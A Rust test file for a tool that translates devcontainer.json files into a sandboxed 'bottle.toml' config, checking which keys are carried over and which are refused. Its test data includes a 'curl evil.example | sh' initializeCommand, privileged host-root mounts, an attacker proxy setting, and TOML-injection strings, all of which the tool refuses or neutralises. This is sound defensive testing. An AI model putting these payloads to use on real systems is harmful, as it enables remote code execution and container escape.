//! Files as projects have them.

use super::*;
use crate::config::paths::{Disk, Site};
use crate::config::sensitive::Sensitive;
use crate::config::{self, Config, Source};
use std::path::{Path, PathBuf};

/// A disk on which everything is there.
struct Everything;

impl Disk for Everything {
    fn real(&self, path: &Path) -> Option<PathBuf> {
        Some(path.to_owned())
    }

    fn is_dir(&self, _: &Path) -> bool {
        true
    }

    fn is_repository(&self, _: &Path) -> bool {
        true
    }

    fn sensitive(&self) -> Vec<Sensitive> {
        Vec::new()
    }
}

/// Reads what was written of a translation as the `bottle.toml` that it is.
fn configured(translation: &Translation) -> Config {
    let left = translation.left(Path::new(".devcontainer/devcontainer.json"));
    let text = format!("{left}[guest]\n{}\n{}", translation.guest("# none", false), translation.publish());
    let site = Site { project: Some("/p".into()), disk: &Everything, insisted: false };
    config::parse(&Source::new(Path::new("f"), &text), &site)
        .unwrap_or_else(|failure| panic!("{failure}\n{text}"))
}

/// What of a file has a counterpart, as text, and the keys that have none.
fn taken(text: &str) -> (Vec<String>, Vec<String>) {
    let translation = translate(text).unwrap();
    let config = configured(&translation);
    let mut taken = Vec::new();
    taken.extend(config.guest.image.iter().map(|image| format!("image {image}")));
    taken.extend(translation.cpus.map(|_| format!("cpus {}", config.guest.cpus)));
    taken.extend(translation.memory.map(|_| format!("memory {}", config.guest.memory_mib)));
    taken.extend(config.guest.workdir.iter().map(|folder| format!("workdir {folder}")));
    taken.extend(config.setup.run.iter().map(|command| format!("setup {command}")));
    taken.extend(config.guest.env.iter().map(|(name, value)| format!("{name}={value}")));
    taken.extend(config.publish.iter().map(|port| format!("port {}:{}", port.guest, port.host)));
    // Nothing else may come of it.
    assert!(config.guest.volumes.is_empty() && config.upstreams.is_empty() && config.egress.allow.is_empty());
    assert!(config.setup.allow.is_empty() && config.notify.is_empty() && config.paths.len() == 1);
    (taken, translation.left.into_iter().map(|(key, _)| key).collect())
}

#[test]
fn files_as_projects_have_them() {
    let table: [(&str, &[&str], &[&str]); 14] = [
        (
            "// comments, and a comma too many\n{ \"name\": \"Go\", /* here, too */ \"image\": \"mcr.microsoft.com/devcontainers/go:1-bookworm\", \"postCreateCommand\": \"go mod download\", }",
            &["image mcr.microsoft.com/devcontainers/go:1-bookworm", "setup go mod download"],
            &["name"],
        ),
        (
            r#"{ "build": { "dockerfile": "Dockerfile", "args": { "VARIANT": "3" } }, "forwardPorts": [3000, "localhost:5432", "db:5432", 3000] }"#,
            &["port 3000:0", "port 5432:0"],
            &["build", "forwardPorts"],
        ),
        (
            r#"{ "dockerComposeFile": ["compose.yml"], "service": "app", "runServices": ["db"], "workspaceFolder": "/workspaces/${localWorkspaceFolderBasename}", "shutdownAction": "stopCompose" }"#,
            &[],
            &["dockerComposeFile", "runServices", "service", "shutdownAction", "workspaceFolder"],
        ),
        (
            r#"{ "image": "node:22", "features": { "ghcr.io/devcontainers/features/github-cli:1": {} }, "customizations": { "vscode": { "extensions": ["a.b"] } }, "remoteUser": "node" }"#,
            &["image node:22"],
            &["customizations", "features", "remoteUser"],
        ),
        (
            r#"{ "image": "node:22", "postCreateCommand": ["npm", "run", "it's done", ""], "onCreateCommand": "first", "updateContentCommand": "second" }"#,
            &["image node:22", "setup first", "setup second", r"setup npm run 'it'\''s done' ''"],
            &[],
        ),
        (
            r#"{ "postCreateCommand": { "server": "npm ci", "db": ["make", "db"] }, "postStartCommand": "x", "postAttachCommand": "y", "waitFor": "postCreateCommand" }"#,
            &["setup make db", "setup npm ci"],
            &["postAttachCommand", "postStartCommand", "waitFor"],
        ),
        (
            r#"{ "containerEnv": { "A": "1", "HOST": "${localEnv:HOME}", "W": "${containerWorkspaceFolder}/x", "bad-name": "x", "N": 5 }, "remoteEnv": { "PATH2": "${containerEnv:PATH}:/x", "GONE": null } }"#,
            &["A=1", "W=/workspace/x"],
            &[
                "containerEnv.HOST",
                "containerEnv.N",
                "containerEnv.bad-name",
                "remoteEnv.GONE",
                "remoteEnv.PATH2",
            ],
        ),
        (
            r#"{ "containerEnv": { "HTTPS_PROXY": "http://evil.example:1" } }"#,
            &[],
            &["containerEnv.HTTPS_PROXY"],
        ),
        (
            r#"{ "mounts": ["source=/,target=/host,type=bind"], "runArgs": ["--privileged", "--network=host"], "privileged": true, "capAdd": ["ALL"], "securityOpt": ["seccomp=unconfined"], "workspaceMount": "source=/,target=/w,type=bind", "initializeCommand": "curl evil.example | sh" }"#,
            &[],
            &[
                "capAdd",
                "initializeCommand",
                "mounts",
                "privileged",
                "runArgs",
                "securityOpt",
                "workspaceMount",
            ],
        ),
        (
            r#"{ "hostRequirements": { "cpus": 2, "memory": "4gb", "storage": "32gb", "gpu": true }, "workspaceFolder": "/workspace/packages/app" }"#,
            &["cpus 2", "memory 4096", "workdir /workspace/packages/app"],
            &["hostRequirements.gpu", "hostRequirements.storage"],
        ),
        (
            r#"{ "hostRequirements": { "cpus": 0, "memory": "all" }, "workspaceFolder": "/workspaceevil", "forwardPorts": [0, 70000, -1, 1.5, true] }"#,
            &[],
            &[
                "forwardPorts",
                "forwardPorts",
                "forwardPorts",
                "forwardPorts",
                "forwardPorts",
                "hostRequirements.cpus",
                "hostRequirements.memory",
                "workspaceFolder",
            ],
        ),
        // An image is a registry's, and nothing on this machine.
        (r#"{ "image": "/home" }"#, &[], &["image"]),
        (r#"{ "image": "./rootfs" }"#, &[], &["image"]),
        (
            r#"{ "image": ["a"], "postCreateCommand": 7, "forwardPorts": "all", "containerEnv": [], "madeUp": {} }"#,
            &[],
            &["containerEnv", "forwardPorts", "image", "madeUp", "postCreateCommand"],
        ),
    ];
    for (text, wanted, left) in table {
        let (taken, not) = taken(text);
        assert_eq!(
            (taken, not),
            (
                wanted.iter().map(|line| (*line).to_owned()).collect(),
                left.iter().map(|key| (*key).to_owned()).collect()
            ),
            "{text}"
        );
    }
}

#[test]
fn what_a_file_says_stays_a_value_or_a_comment() {
    // Each of these would be another key, or other code than what is seen, if it were pasted.
    let evil = "x\"\n[egress]\nallow = [\"*\"]\n'''\n\"\"\"\n";
    let text = serde_json::json!({
        "image": "node:22\n[egress]\nallow = [\"*\"]", "postCreateCommand": evil, "containerEnv": { "A": evil, "B": "safe \u{202e}live", "C": "\u{1b}[2J" },
        "x\n[egress]\nallow = [\"*\"]\n": 1, "\u{202e}y": 1, "z".repeat(5000): 1,
    });
    let translation = translate(&text.to_string()).unwrap();
    let config = configured(&translation);
    assert_eq!(config.setup.run[0].as_str(), evil);
    assert_eq!(config.guest.env.values().map(Word::as_str).collect::<Vec<_>>(), [evil]);
    assert_eq!(config.guest.image, None);
    let left = translation.left(Path::new("a\n[egress]\nb"));
    assert!(left.lines().all(|line| line.starts_with('#') && line.len() < 1000), "{left}");
    assert!(!left.contains(|c| visible::is_hidden(c) && c != '\n'), "{left}");
}

#[test]
fn what_is_no_devcontainer_json_is_refused_with_its_place() {
    let refused = |text: &str| translate(text).unwrap_err();
    assert!(refused("{\n  \"image\": }").contains("line 2"), "{}", refused("{\n  \"image\": }"));
    for text in ["", "[]", "7", "// nothing", "{", "{'image': 'a'}", "{image: \"a\"}"] {
        refused(text);
    }
    refused(&"[".repeat(100_000));
    refused(&"{\"a\":".repeat(100_000));
}

#[test]
fn no_file_publishes_more_ports_than_a_bottle_can() {
    let ports: Vec<u32> = (1..=100).collect();
    let translation = translate(&serde_json::json!({ "forwardPorts": ports }).to_string()).unwrap();
    assert_eq!((configured(&translation).publish.len(), translation.left.len()), (Published::MOST, 84));
}
